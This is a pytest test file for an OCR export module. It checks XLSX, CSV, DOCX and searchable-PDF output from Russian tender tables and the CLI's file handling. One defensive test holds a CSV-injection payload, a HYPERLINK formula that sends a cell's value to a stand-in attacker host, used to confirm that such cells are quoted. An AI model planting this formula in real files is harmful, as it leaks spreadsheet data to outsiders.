import base64
import csv
import io
import json
import subprocess
import sys
import zipfile
from pathlib import Path
from decimal import Decimal as D

import docx
import openpyxl
import pymupdf
import pytest
from PIL import Image, ImageDraw

from managers.runs import make_engine
from managers.runtime import Runtime
from models import exports, render, structure, tables
from models.answers import Prepared, page_from_answer
from models.document import Page
from models.errors import NothingToExport
from models.elements import Paragraph, Picture
from models.result import OCRResult, PageResult
from tests.conftest import ROOT
from tests.helpers import A4, ENGLISH, RUSSIAN, cer, encode, render_lines

# A tender page as dots.ocr answers it: two tables, the first with cells spanning rows and
# columns, numbers written the Russian and the English way, an INN, an OKPD2 code and a date.
SPEC = """<table><thead><tr><th>№</th><th>Наименование</th><th>ОКПД2</th><th colspan="2">Цена, руб.</th></tr></thead>
<tbody><tr><td rowspan="2">1</td><td>Стул офисный</td><td>26.20.15.000</td><td>1 250 000,00</td><td>-3,5</td></tr>
<tr><td>Стол</td><td>007</td><td>47&nbsp;300,50</td><td>12%</td></tr>
<tr><td>ИНН</td><td colspan="2" rowspan="2">7707083893</td><td>15.12.2026</td><td>0,5</td></tr>
<tr><td>Итого</td><td>1,5</td><td>12</td></tr></tbody></table>"""
PRICES = ("<table><tr><th>Item</th><th>Qty</th><th>Amount</th></tr>"
          "<tr><td>Chair</td><td>12</td><td>1,250,000.00</td></tr>"
          "<tr><td>OGRN</td><td>1027700132195</td><td>1,250</td></tr></table>")
CELLS = [
    {"bbox": [140, 96, 1512, 150], "category": "Page-header", "text": "ООО «Поставка»"},
    {"bbox": [140, 210, 1512, 290], "category": "Title", "text": "# Спецификация поставки"},
    {"bbox": [140, 330, 1512, 380], "category": "Text", "text": "Поставщик поставляет **мебель** в срок."},
    {"bbox": [140, 400, 1512, 900], "category": "Table", "text": SPEC},
    {"bbox": [400, 940, 1250, 1400], "category": "Picture"},
    {"bbox": [140, 1450, 1512, 1500], "category": "List-item", "text": "- Срок поставки: 30 дней"},
    {"bbox": [140, 1550, 1512, 1900], "category": "Table", "text": PRICES},
    {"bbox": [700, 2296, 952, 2352], "category": "Page-footer", "text": "1"},
]
SEEN, SIZE = (1652, 2352), (1653, 2339)

# The grids the tables must come back as in Excel: numbers typed where that loses nothing,
# identifiers, codes and dates as text, a spanned cell's text once at its first position.
SPEC_GRID = [
    ["№", "Наименование", "ОКПД2", "Цена, руб.", ""],
    [D("1"), "Стул офисный", "26.20.15.000", D("1250000.00"), D("-3.5")],
    ["", "Стол", "007", D("47300.50"), "12%"],
    ["ИНН", "7707083893", "", "15.12.2026", D("0.5")],
    ["Итого", "", "", D("1.5"), D("12")],
]
PRICES_GRID = [
    ["Item", "Qty", "Amount"],
    ["Chair", D("12"), D("1250000.00")],
    ["OGRN", "1027700132195", D("1250")],  # an English table: the comma groups thousands
]
# The same tables as written, which is what CSV holds.
SPEC_CELLS = [
    ["№", "Наименование", "ОКПД2", "Цена, руб.", ""],
    ["1", "Стул офисный", "26.20.15.000", "1 250 000,00", "-3,5"],
    ["", "Стол", "007", "47 300,50", "12%"],
    ["ИНН", "7707083893", "", "15.12.2026", "0,5"],
    ["Итого", "", "", "1,5", "12"],
]
PRICES_CELLS = [["Item", "Qty", "Amount"], ["Chair", "12", "1,250,000.00"], ["OGRN", "1027700132195", "1,250"]]
# What python-docx reads back: a merged cell's text at every grid position it spans.
SPEC_WORD = [
    ["№", "Наименование", "ОКПД2", "Цена, руб.", "Цена, руб."],
    ["1", "Стул офисный", "26.20.15.000", "1 250 000,00", "-3,5"],
    ["1", "Стол", "007", "47 300,50", "12%"],
    ["ИНН", "7707083893", "7707083893", "15.12.2026", "0,5"],
    ["Итого", "7707083893", "7707083893", "1,5", "12"],
]
PRICES_WORD = [["Item", "Qty", "Amount"], ["Chair", "12", "1,250,000.00"], ["OGRN", "1027700132195", "1,250"]]


@pytest.fixture(scope="module")
def page_image():
    image = Image.new("RGB", SIZE, "white")
    ImageDraw.Draw(image).rectangle((500, 950, 1150, 1350), fill=(200, 30, 30))  # the picture
    return image


@pytest.fixture(scope="module")
def layout(page_image):
    """The answer read the way the vLLM and local engines read it."""
    from models.config import load_config

    task = load_config(ROOT / "config.yaml").model("dots_ocr").tasks["layout_all"]
    page = page_from_answer(json.dumps(CELLS, ensure_ascii=False), False, Prepared(0, SIZE, SEEN, []), task,
                            12000, source=Page(0, page_image))
    return OCRResult(model="dots_ocr", engine="openai", task="layout_all", pages=[page])


def unzip(data: bytes) -> dict[str, list[list[str]]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: list(csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))))
                for name in archive.namelist()}


def test_xlsx_has_a_sheet_per_table_with_typed_cells_and_the_text(layout):
    made = exports.export(layout, "xlsx", "scans/spec.png", page_image=None)
    assert made.name == "spec.xlsx"
    book = openpyxl.load_workbook(io.BytesIO(made.data))
    assert book.sheetnames == ["p1 t1", "p1 t2", "Text"]
    for name, expected in (("p1 t1", SPEC_GRID), ("p1 t2", PRICES_GRID)):
        read = [["" if v is None else v for v in row] for row in book[name].iter_rows(values_only=True)]
        assert read == expected
        for got, want in zip(sum(read, []), sum(expected, [])):
            assert isinstance(got, str) == isinstance(want, str), (got, want)  # numbers stored as numbers
    assert {str(r) for r in book["p1 t1"].merged_cells.ranges} == {"D1:E1", "A2:A3", "B4:C5"}
    text = [row for row in book["Text"].iter_rows(values_only=True)]
    assert text[0] == ("Page", "Text") and (1, "Спецификация поставки") in text


def test_csv_is_a_zip_of_one_file_per_table(layout):
    made = exports.export(layout, "csv", "spec.png", page_image=None)
    assert (made.name, made.mime) == ("spec.csv.zip", "application/zip")
    # "-3,5" as "'-3,5": a cell that begins like a formula is quoted (the test below says why).
    assert unzip(made.data) == {
        "spec.p1.t1.csv": [[("'" + c if c.startswith("-") else c) for c in row] for row in SPEC_CELLS],
        "spec.p1.t2.csv": PRICES_CELLS,
    }


def test_one_table_is_one_csv_and_none_is_no_file():
    one = OCRResult(model="m", engine="e", task="t", pages=[{"index": 0, "markdown": "| a | b |\n|--|--|\n| 1 | x |"}])
    made = exports.export(one, "csv", "one.png", page_image=None)
    assert (made.name, made.data) == ("one.csv", "\ufeffa,b\r\n1,x\r\n".encode())
    with pytest.raises(NothingToExport, match="^No tables were found, so no CSV was written.$"):
        exports.export(OCRResult(model="m", engine="e", task="t", pages=[{"index": 0, "markdown": "text"}]),
                       "csv", "none.png", page_image=None)


def test_docx_in_reading_order_with_word_tables_and_the_picture(layout, page_image):
    made = exports.export(layout, "docx", "spec.png", page_image=lambda i: page_image)
    document = docx.Document(io.BytesIO(made.data))
    assert [[[cell.text for cell in row.cells] for row in table.rows] for table in document.tables] == [
        SPEC_WORD, PRICES_WORD]
    paragraphs = [(p.style.name, p.text) for p in document.paragraphs if p.text]
    assert paragraphs == [
        ("Normal", "ООО «Поставка»"),
        ("Heading 1", "Спецификация поставки"),
        ("Normal", "Поставщик поставляет мебель в срок."),
        ("List Bullet", "Срок поставки: 30 дней"),
        ("Normal", "1"),
    ]
    [picture] = document.inline_shapes
    assert picture.width == pytest.approx(docx.shared.Inches(850 / 200), rel=0.01)  # the box at 200 dpi
    body = [child.tag.rsplit("}", 1)[1] for child in document.element.body]
    assert body.count("tbl") == 2 and body.index("tbl") < body.index("tbl", body.index("tbl") + 1)


@pytest.fixture(scope="module")
def scanned():
    """Two pages read by the real Tesseract, and the images they were read from."""
    from models.config import load_config

    images = [render_lines(RUSSIAN), render_lines(ENGLISH)]
    engine = make_engine(Runtime(load_config(ROOT / "config.yaml")), "tesseract")
    return engine.ocr([Page(i, image) for i, image in enumerate(images)]), images


def test_searchable_pdf_has_the_read_text_where_it_is_seen(scanned):
    result, images = scanned
    made = exports.export(result, "pdf", "scan.png", page_image=images.__getitem__)
    assert (made.name, made.mime) == ("scan.pdf", "application/pdf")
    pdf = pymupdf.open(stream=made.data)
    assert pdf.page_count == len(result.pages) == 2
    assert tuple(pdf[0].rect)[2:] == pytest.approx((A4[0] * 72 / 200, A4[1] * 72 / 200))  # A4 at 200 dpi
    assert cer("\n".join(RUSSIAN), pdf[0].get_text()) <= 0.02
    assert cer("\n".join(ENGLISH), pdf[1].get_text()) <= 0.02
    assert len(pdf[0].get_images()) == 1 and "DejaVu Sans" in pdf[0].get_fonts()[0][3]
    [found] = pdf[0].search_for("французских")
    assert pdf[1].search_for("французских") == []
    # where the word is on the image: the box Tesseract gave its line, in points
    line = next(b for b in result.pages[0].blocks if "французских" in b.text)
    assert line.bbox[1] * 72 / 200 - 2 <= found.y0 < found.y1 <= line.bbox[3] * 72 / 200 + 2
    assert pdf[1].search_for("quick brown fox")


def test_a_failed_page_keeps_its_image_without_text(scanned):
    result, images = scanned
    failed = result.model_copy(deep=True)
    failed.pages[1] = failed.pages[1].model_copy(update={"error": "Page 2 failed.", "blocks": [], "text": ""})
    pdf = pymupdf.open(stream=exports.export(failed, "pdf", "scan.png", images.__getitem__).data)
    assert pdf.page_count == 2
    assert pdf[1].get_text().strip() == "" and len(pdf[1].get_images()) == 1
    assert cer("\n".join(RUSSIAN), pdf[0].get_text()) <= 0.02


def cli(*args):
    return subprocess.run([sys.executable, "cli.py", *map(str, args)], cwd=ROOT,
                          capture_output=True, text=True, timeout=300)


@pytest.fixture(scope="module")
def inputs(tmp_path_factory):
    folder = tmp_path_factory.mktemp("inputs")
    (folder / "a").mkdir()
    (folder / "b").mkdir()
    for path in (folder / "page.png", folder / "a" / "same.png", folder / "b" / "same.png"):
        path.write_bytes(encode(render_lines(RUSSIAN), "PNG"))
    return folder


def test_cli_binary_formats_need_an_out_dir(inputs):
    done = cli("ocr", inputs / "page.png", "--model", "tesseract", "--format", "xlsx")
    assert done.returncode == 2 and done.stdout == ""
    assert done.stderr == "error: xlsx is a binary format: give --out DIR.\n"


def test_cli_writes_exports_and_never_overwrites_a_name_twice(inputs, tmp_path):
    out = tmp_path / "out"
    done = cli("ocr", inputs / "page.png", inputs / "a" / "same.png", inputs / "b" / "same.png",
               "--model", "tesseract", "--format", "xlsx", "--out", out)
    assert done.returncode == 0, done.stderr
    assert sorted(p.name for p in out.iterdir()) == ["page.xlsx", "same (2).xlsx", "same.xlsx"]
    assert f"wrote {out / 'same (2).xlsx'} ({inputs / 'b' / 'same.png'} has the name of an earlier input)" \
        in done.stderr.splitlines()
    text = openpyxl.load_workbook(out / "same (2).xlsx")["Text"]
    assert cer("\n".join(RUSSIAN), "\n".join(row[1] for row in text.iter_rows(min_row=2, values_only=True))) <= 0.02


def test_cli_csv_of_a_page_without_tables_writes_nothing_and_says_so(inputs, tmp_path):
    out = tmp_path / "out"
    done = cli("ocr", inputs / "page.png", "--model", "tesseract", "--format", "csv", "--out", out)
    assert done.returncode == 0, done.stderr
    assert not out.exists()  # not even the folder was made
    assert done.stderr.splitlines()[-1] == "page.png: No tables were found, so no CSV was written."


# A tender's items as a model reads them: item numbers, OKPD2 codes, quantities, prices, totals,
# dates and an INN, written the Russian way.
TENDER = """| № | Наименование | ОКПД2 | Кол-во | Цена, руб. | Сумма, руб. | Срок | ИНН |
|---|---|---|---|---|---|---|---|
| 1 | Стул офисный | 26.20.15.000 | 5 | 47 300,50 | 236 502,50 | 15.12.2026 | 7707083893 |
| 1.10 | Монтаж | 41.20 | 0,5 | 1 250 000,00 | 625 000,00 | 15.12 | 7707083893 |
| 2.10 | Доставка | 41.20 | 1 | 12 | 12 | 15.12.2026 | 007 |
| Итого | | | | | 861 514,50 | | |"""


def of_markdown(markdown: str, page_text: str | None = None) -> OCRResult:
    elements, _ = structure.from_markdown(markdown)
    text = render.elements_text(elements) if page_text is None else page_text
    page = PageResult(index=0, width=1000, height=1000, text=text, markdown=markdown, elements=elements)
    return OCRResult(model="m", engine="e", task="t", pages=[page])


def sheet_of(made: exports.File, name: str = "p1 t1") -> dict[str, tuple[object, str]]:
    sheet = openpyxl.load_workbook(io.BytesIO(made.data))[name]
    return {cell.coordinate: (cell.value, cell.number_format) for row in sheet.iter_rows() for cell in row
            if cell.value is not None}


def test_xlsx_keeps_a_tenders_values_as_written():
    cells = sheet_of(exports.export(of_markdown(TENDER), "xlsx", "tender.png", page_image=None))
    numbers = {k: v for k, v in cells.items() if not isinstance(v[0], str)}
    assert numbers == {
        "A2": (1, "General"), "D2": (5, "General"), "E2": (47300.5, "#,##0.00"), "F2": (236502.5, "#,##0.00"),
        "D3": (0.5, "0.0"), "E3": (1250000, "#,##0.00"), "F3": (625000, "#,##0.00"),
        "D4": (1, "General"), "E4": (12, "General"), "F4": (12, "General"),
        "F5": (861514.5, "#,##0.00"),
    }
    texts = {k: v[0] for k, v in cells.items() if isinstance(v[0], str)}
    assert {k: texts[k] for k in ("A3", "A4", "C2", "C3", "C4", "G2", "G3", "H2", "H4")} == {
        "A3": "1.10", "A4": "2.10", "C2": "26.20.15.000", "C3": "41.20", "C4": "41.20",
        "G2": "15.12.2026", "G3": "15.12", "H2": "7707083893", "H4": "007"}


def test_xlsx_reads_a_table_by_its_convention_or_else_its_pages():
    english = sheet_of(exports.export(of_markdown("| Item | Price | Total |\n|---|---|---|\n| 1.10 | 12.50 | 1,250,000.00 |"),
                                      "xlsx", "en.png", page_image=None))
    assert english == {"A1": ("Item", "General"), "B1": ("Price", "General"), "C1": ("Total", "General"),
                       "A2": (1.1, "0.00"), "B2": (12.5, "0.00"), "C2": (1250000, "#,##0.00")}
    figures = "| 1.10 | 15.12 | 0,5 |\n|---|---|---|\n| 2.10 | 41.20 | 3 |"
    russian = sheet_of(exports.export(of_markdown(figures, "Спецификация поставки"), "xlsx", "ru.png", page_image=None))
    assert russian["A1"] == ("1.10", "General") and russian["B2"] == ("41.20", "General")
    assert russian["C1"] == (0.5, "0.0") and russian["C2"] == (3, "General")
    elsewhere = sheet_of(exports.export(of_markdown(figures, "Delivery schedule"), "xlsx", "en.png", page_image=None))
    assert elsewhere["A1"] == (1.1, "0.00") and elsewhere["C1"] == ("0,5", "General")


def test_csv_cells_that_begin_like_a_formula_are_quoted_so_no_spreadsheet_runs_them():
    """OWASP's CSV injection: a scanned "=HYPERLINK(…)" must reach Excel as text."""
    from models.exports.csv_files import csv_bytes

    cells = ["=HYPERLINK(\"http://evil.example/?\"&A2)", "+7 495 241-15-07", "-3,5", "@SUM(A1)", "a=b", "1-2"]
    table = "| " + " | ".join(cells) + " |\n|" + "--|" * len(cells) + "\n| " + " | ".join("x" * len(cells)) + " |"
    made = exports.export(OCRResult(model="m", engine="e", task="t", pages=[{"index": 0, "markdown": table}]),
                          "csv", "one.png", page_image=None)
    header = next(csv.reader(io.StringIO(made.data.decode("utf-8-sig"))))
    assert header == ["'=HYPERLINK(\"http://evil.example/?\"&A2)", "'+7 495 241-15-07", "'-3,5", "'@SUM(A1)",
                      "a=b", "1-2"]
    assert next(csv.reader(io.StringIO(csv_bytes([["\tx", "\rx"]]).decode("utf-8-sig")))) == ["'\tx", "'\rx"]


def test_csv_holds_every_cell_exactly_as_written():
    made = exports.export(of_markdown(TENDER), "csv", "tender.png", page_image=None)
    assert made.data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(made.data.decode("utf-8-sig"))))
    assert rows[1:4] == [
        ["1", "Стул офисный", "26.20.15.000", "5", "47 300,50", "236 502,50", "15.12.2026", "7707083893"],
        ["1.10", "Монтаж", "41.20", "0,5", "1 250 000,00", "625 000,00", "15.12", "7707083893"],
        ["2.10", "Доставка", "41.20", "1", "12", "12", "15.12.2026", "007"],
    ]


def test_a_table_of_huge_spans_is_capped_and_exported():
    answer = "<table><tr>" + '<td colspan="1000">ячейка</td>' * 20 + "</tr><tr><td>1,5</td></tr></table>"
    made = exports.export(of_markdown(answer), "xlsx", "wide.png", page_image=None)
    sheet = openpyxl.load_workbook(io.BytesIO(made.data))["p1 t1"]
    assert sheet.max_column == tables.MAX_COLUMNS and sheet["A2"].value == 1.5


def test_docx_pictures_are_cut_from_the_page_and_answers_are_never_decoded():
    page = Image.new("RGB", (1000, 1000), "white")
    ImageDraw.Draw(page).rectangle((100, 50, 399, 249), fill=(200, 30, 30))  # the picture's box
    red = io.BytesIO()
    Image.new("RGB", (64, 64), (0, 0, 255)).save(red, format="PNG")
    smuggled = "![x](data:image/png;base64," + base64.b64encode(red.getvalue()).decode() + ")"
    elements = [Paragraph(text=f"Первая строка\n{smuggled}"), Picture(bbox=(100, 50, 400, 250))]
    result = OCRResult(model="m", engine="e", task="t", pages=[
        PageResult(index=0, width=1000, height=1000, elements=elements, markdown=smuggled)])
    document = docx.Document(io.BytesIO(exports.export(result, "docx", "p.png", lambda i: page).data))
    [picture] = document.inline_shapes  # the crop only: the data URL stays text
    blob = document.part.related_parts[picture._inline.graphic.graphicData.pic.blipFill.blip.embed].blob
    crop = Image.open(io.BytesIO(blob)).convert("RGB")
    assert crop.size == (300, 200) and crop.getpixel((150, 100)) == (200, 30, 30)
    assert document.paragraphs[0].text == f"Первая строка\n{smuggled}"  # the line break kept


def test_one_documents_failed_export_leaves_the_others_in_the_zip(scanned):
    result, images = scanned

    def lost(index):
        raise OSError("the page image is gone")
    data = exports.bundle([("a.png", result, images.__getitem__), ("b.png", result, lost),
                           ("c.png", result, images.__getitem__)], "pdf")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert sorted(archive.namelist()) == ["a.pdf", "b.error.txt", "c.pdf"]
        said = archive.read("b.error.txt").decode()
        assert cer("\n".join(RUSSIAN), pymupdf.open(stream=archive.read("c.pdf"))[0].get_text()) <= 0.02
    assert said == ("'b.png' could not be written as pdf (OSError: the page image is gone); the other "
                    "documents are not affected.\n")


def test_the_cli_writes_the_others_and_says_what_failed(scanned, tmp_path, capsys):
    import cli

    result, images = scanned

    def lost(index):
        raise OSError("the page image is gone")
    assert cli._write(tmp_path, [(Path("a.png"), result)], "pdf", {}, images.__getitem__) is True
    assert cli._write(tmp_path, [(Path("a.png"), result), (Path("b.png"), result)], "pdf", {}, lost) is False
    assert cli._write(tmp_path, [(Path("a.png"), result), (Path("b.png"), result), (Path("c.png"), result)],
                      "pdf", {}, images.__getitem__) is True
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.pdf", "c.pdf"]
    said = capsys.readouterr().err.splitlines()
    assert said[1] == ("error: 'b.png' could not be written as pdf (OSError: the page image is gone); the other "
                       "documents are not affected.")


def test_searchable_pdf_lays_a_layouts_text_as_read_not_its_markup(page_image):
    cells = [{"bbox": [140, 330, 1512, 380], "category": "Text", "text": "Поставщик поставляет **мебель** в срок."},
             {"bbox": [140, 400, 1512, 600], "category": "Text", "text": "| Товар | Цена |\n|---|---|\n| Стул | 1 250,00 |"}]
    from models.config import load_config

    task = load_config(ROOT / "config.yaml").model("dots_ocr").tasks["layout_all"]
    page = page_from_answer(json.dumps(cells, ensure_ascii=False), False, Prepared(0, SIZE, SIZE, []), task, 12000)
    result = OCRResult(model="dots_ocr", engine="openai", task="layout_all", pages=[page])
    text = pymupdf.open(stream=exports.export(result, "pdf", "p.png", lambda i: page_image).data)[0].get_text()
    assert "Поставщик поставляет мебель в срок." in text and "Стул 1 250,00" in text
    assert "**" not in text and "|" not in text


def test_docx_renders_every_kind_of_element_in_its_style():
    markdown = ("## Раздел 1\n\nПервая строка  \nвторая строка\n\n- пункт\n  - подпункт\n\n1. первый\n2. второй\n\n"
                "$$\nE = mc^2\n$$\n\n```\nprint(1)\n```")
    result = of_markdown(markdown)
    document = docx.Document(io.BytesIO(exports.export(result, "docx", "p.png", page_image=None).data))
    assert [(p.style.name, p.text) for p in document.paragraphs if p.text] == [
        ("Heading 2", "Раздел 1"), ("Normal", "Первая строка\nвторая строка"),
        ("List Bullet", "пункт"), ("List Bullet 2", "подпункт"),
        ("List Number", "первый"), ("List Number", "второй"),
        ("Normal", "E = mc^2"), ("Normal", "print(1)")]
    assert {run.font.name for p in document.paragraphs[-2:] for run in p.runs} == {"Courier New"}
